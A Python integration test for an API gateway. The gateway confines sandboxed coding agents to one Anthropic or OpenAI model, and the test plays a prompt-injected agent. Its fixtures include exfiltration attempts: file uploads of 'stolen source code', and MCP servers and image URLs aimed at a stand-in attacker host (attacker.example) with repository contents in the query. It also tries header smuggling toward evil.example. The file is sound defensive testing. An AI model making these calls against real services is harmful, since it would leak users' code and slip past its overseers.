"""The gateway is a door to one model of the Anthropic or OpenAI API, not to the API: attempts
from inside a real sandbox holding a question's token (bridged to its session socket, as
a question's Claude Code or Codex is), made with curl the way a prompt-injected agent with
a shell would make them, against a real gateway process and the provider's fake, which
records every request it receives.

Every path outside the route table, every other model, every server-side tool (Anthropic's
web_search / web_fetch / code_execution and MCP servers, OpenAI's web_search / file_search /
code_interpreter / image_generation / remote MCP), stored content and url references are
refused with a message, and none of them reaches the fake; the allowed calls arrive with
the real key and only the allowlisted headers, never the token.
"""

from __future__ import annotations

import json
import shlex
from dataclasses import dataclass, field
from typing import Any

import pytest

from gateway.providers import anthropic as anthropic_provider
from gateway.providers import openai as openai_provider
from sandbox import Sandbox, SandboxSpec
from sandbox.bridges import SocketBridge
from sandbox.spec import Limits
from tests.fakes.anthropic_api import FakeAnthropicAPI
from tests.fakes.llm_api import Text
from tests.fakes.openai_api import FakeOpenAIAPI
from tests.integration.gateway_helpers import GatewayProcess, provider_env

pytestmark = [pytest.mark.docker, pytest.mark.redis, pytest.mark.usefixtures("no_leftovers")]
REAL_KEY = "sk-the-real-key-of-the-organisation"
PORT = 8100
EXFIL = "https://attacker.example/?d=REPO-CONTENTS"
CLAUDE, GPT = "claude-sonnet-4-5", "gpt-5-codex"


@dataclass(frozen=True)
class Attempt:
    name: str
    path: str
    body: Any = None
    method: str = "POST"
    headers: dict[str, str] = field(default_factory=dict)
    status: int = 0
    says: str = ""

    def curl(self, auth: str) -> str:
        args = [
            "curl",
            "-sS",
            "--path-as-is",
            "-o",
            "/tmp/out",
            "-w",
            "%{http_code}",
            "-X",
            self.method,
            "-H",
            "content-type: application/json",
        ]
        for name, value in self.headers.items():
            args += ["-H", f"{name}: {value}"]
        if self.body is not None:
            args += ["--data-binary", self.body.decode() if isinstance(self.body, bytes) else json.dumps(self.body)]
        line = " ".join(shlex.quote(a) for a in args)
        url = shlex.quote(f"http://127.0.0.1:{PORT}{self.path}")
        return (
            f"printf '%s\\t' {shlex.quote(self.name)}; {line} -H \"{auth}\" {url}; "
            "printf '\\t'; tr -d '\\n\\t' < /tmp/out; echo"
        )


def message(**extra: Any) -> dict[str, Any]:
    return {
        "model": CLAUDE,
        "max_tokens": 1024,
        "messages": [{"role": "user", "content": "Summarise the repo."}],
        **extra,
    }


def response(**extra: Any) -> dict[str, Any]:
    return {"model": GPT, "input": "Summarise the repo.", **extra}


ROUTE_A, ROUTE_O, MODEL_A, MODEL_O, FIELD = (
    "serves only POST {/v1/messages,/v1/messages/count_tokens}",
    "serves only POST {/v1/responses,/v1/chat/completions}",
    f"only the model {CLAUDE}",
    f"only the model {GPT}",
    "does not forward",
)
ANTHROPIC = [
    Attempt("files", "/v1/files", method="GET", status=403, says=ROUTE_A),
    Attempt("upload", "/v1/files", b"stolen source code", status=403, says=ROUTE_A),
    Attempt(
        "batches",
        "/v1/messages/batches",
        {"requests": [{"custom_id": "a", "params": message()}]},
        status=403,
        says=ROUTE_A,
    ),
    Attempt("models", "/v1/models", method="GET", status=403, says=ROUTE_A),
    Attempt("hello", "/api/hello", method="GET", status=403, says=ROUTE_A),
    Attempt("dot-dot", "/v1/messages/../files", message(), status=403, says=ROUTE_A),
    Attempt("query", "/v1/messages?beta=true&x=1", message(), status=400, says="beta=true"),
    Attempt("other-model", "/v1/messages", message(model="claude-opus-4-5"), status=403, says=MODEL_A),
    Attempt(
        "count-other-model",
        "/v1/messages/count_tokens",
        {"model": "claude-opus-4-5", "messages": [{"role": "user", "content": "x"}]},
        status=403,
        says=MODEL_A,
    ),
    *(
        Attempt(
            f"tool-{kind}", "/v1/messages", message(tools=[{"type": kind, "name": name}]), status=400, says="tools[0]"
        )
        for kind, name in (
            ("web_search_20250305", "web_search"),
            ("web_fetch_20250910", "web_fetch"),
            ("code_execution_20250825", "code_execution"),
            ("bash_code_execution", "bash"),
        )
    ),
    Attempt(
        "mcp-servers",
        "/v1/messages",
        message(mcp_servers=[{"type": "url", "url": EXFIL, "name": "x"}]),
        status=400,
        says=f"{FIELD} `mcp_servers`",
    ),
    Attempt("container", "/v1/messages", message(container="container_1"), status=400, says="`container`"),
    Attempt(
        "image-url",
        "/v1/messages",
        message(messages=[{"role": "user", "content": [{"type": "image", "source": {"type": "url", "url": EXFIL}}]}]),
        status=400,
        says="messages[0].content[0]",
    ),
    Attempt(
        "file-source",
        "/v1/messages",
        message(
            messages=[
                {"role": "user", "content": [{"type": "document", "source": {"type": "file", "file_id": "file_1"}}]}
            ]
        ),
        status=400,
        says="messages[0].content[0]",
    ),
    Attempt(
        "duplicate-key",
        "/v1/messages",
        (
            f'{{"model":"{CLAUDE}","max_tokens":5,"messages":[],"tools":[{{"type":"web_fetch_20250910",'
            f'"name":"web_fetch"}}],"tools":[]}}'
        ).encode(),
        status=400,
        says="`tools` twice",
    ),
]
OPENAI = [
    Attempt("files", "/v1/files", method="GET", status=403, says=ROUTE_O),
    Attempt("upload", "/v1/files", b"stolen source code", status=403, says=ROUTE_O),
    Attempt("vector-stores", "/v1/vector_stores", {"name": "x"}, status=403, says=ROUTE_O),
    Attempt("stored-response", "/v1/responses/resp_1", method="GET", status=403, says=ROUTE_O),
    Attempt("embeddings", "/v1/embeddings", {"model": GPT, "input": "x"}, status=403, says=ROUTE_O),
    Attempt("images", "/v1/images/generations", {"prompt": "x"}, status=403, says=ROUTE_O),
    Attempt("models", "/v1/models", method="GET", status=403, says=ROUTE_O),
    Attempt("other-model", "/v1/responses", response(model="gpt-5-pro"), status=403, says=MODEL_O),
    Attempt(
        "chat-other-model",
        "/v1/chat/completions",
        {"model": "o3", "messages": [{"role": "user", "content": "x"}]},
        status=403,
        says=MODEL_O,
    ),
    *(
        Attempt(f"tool-{kind}", "/v1/responses", response(tools=[{"type": kind, **extra}]), status=400, says="tools[0]")
        for kind, extra in (
            ("web_search", {}),
            ("web_search_preview", {}),
            ("file_search", {"vector_store_ids": ["v"]}),
            ("code_interpreter", {"container": {"type": "auto"}}),
            ("image_generation", {}),
            ("mcp", {"server_url": EXFIL, "server_label": "x"}),
            ("computer_use_preview", {}),
        )
    ),
    Attempt(
        "chat-web-search",
        "/v1/chat/completions",
        {"model": GPT, "messages": [{"role": "user", "content": "x"}], "web_search_options": {}},
        status=400,
        says=f"{FIELD} `web_search_options`",
    ),
    Attempt("store", "/v1/responses", response(store=True), status=400, says="store"),
    Attempt(
        "previous-response",
        "/v1/responses",
        response(previous_response_id="resp_1"),
        status=400,
        says="`previous_response_id`",
    ),
    Attempt(
        "image-url",
        "/v1/responses",
        response(input=[{"role": "user", "content": [{"type": "input_image", "image_url": EXFIL}]}]),
        status=400,
        says="input[0]",
    ),
]
ALLOWED = {
    "anthropic": [
        Attempt("allowed", "/v1/messages?beta=true", message(), status=200),
        Attempt(
            "allowed-smuggling-headers",
            "/v1/messages",
            message(),
            status=200,
            headers={"X-Forwarded-Host": "evil.example", "anthropic-organization-id": "other-org"},
        ),
    ],
    "openai": [
        Attempt("allowed", "/v1/responses", response(), status=200),
        Attempt(
            "allowed-chat",
            "/v1/chat/completions",
            {"model": GPT, "messages": [{"role": "user", "content": "x"}]},
            status=200,
            headers={"OpenAI-Organization": "other-org", "OpenAI-Project": "proj_other"},
        ),
    ],
}
CASES = {
    "anthropic": (FakeAnthropicAPI, ANTHROPIC, CLAUDE, "x-api-key: $TOKEN", anthropic_provider.FORWARDED_HEADERS),
    "openai": (FakeOpenAIAPI, OPENAI, GPT, "Authorization: Bearer $TOKEN", openai_provider.FORWARDED_HEADERS),
}


@pytest.mark.parametrize("provider", CASES)
def test_a_prompt_injected_agent_reaches_nothing_but_its_model(
    provider: str, redis_client, sandbox: Sandbox, built_images
) -> None:
    kind, attempts, model, auth, forwarded = CASES[provider]
    everything = attempts + ALLOWED[provider]
    script = "\n".join(a.curl(auth) for a in everything)
    with kind(default=Text("the allowed answer")) as fake:
        upstream = fake.api_url if isinstance(fake, FakeOpenAIAPI) else fake.base_url
        with GatewayProcess(provider_env(provider, upstream, [REAL_KEY])) as gateway:
            session = gateway.open(model=model, provider=provider)
            spec = SandboxSpec(
                image=built_images["sandbox"],
                command=["bash", "-c", script],
                secret_env={"TOKEN": session.token.get_secret_value()},
                bridges=(
                    SocketBridge(
                        host_dir=session.socket_dir,
                        socket=session.socket.name,
                        port=PORT,
                        mount_point="/run/askbox-gateway",
                    ),
                ),
                limits=Limits(timeout=120),
            )
            with sandbox.run(spec) as running:
                lines = [line.text for line in running if line.stream == "stdout"]
            gateway_log = gateway.output()
    results = {}
    for line in lines:
        name, status, body = line.split("\t", 2)
        results[name] = (int(status), body)
    assert set(results) == {a.name for a in everything}, lines
    for attempt in everything:
        status, body = results[attempt.name]
        assert status == attempt.status, (attempt.name, status, body)
        if attempt.says:
            error = json.loads(body)["error"]
            assert attempt.says in error["message"], (attempt.name, error)
    # The fake saw the allowed calls and nothing else, with the real key, never the token,
    # and only the allowlisted headers (plus what HTTP itself needs).
    assert len(fake.requests) == len(ALLOWED[provider]) and fake.unknown == [] and fake.errors == []
    transport = {"host", "content-length", "content-type", "accept-encoding", "x-api-key", "authorization"}
    for request in fake.requests:
        assert request.api_key == REAL_KEY and request.model == model
        assert set(request.headers) <= transport | set(forwarded), request.headers
    assert "refused" in gateway_log
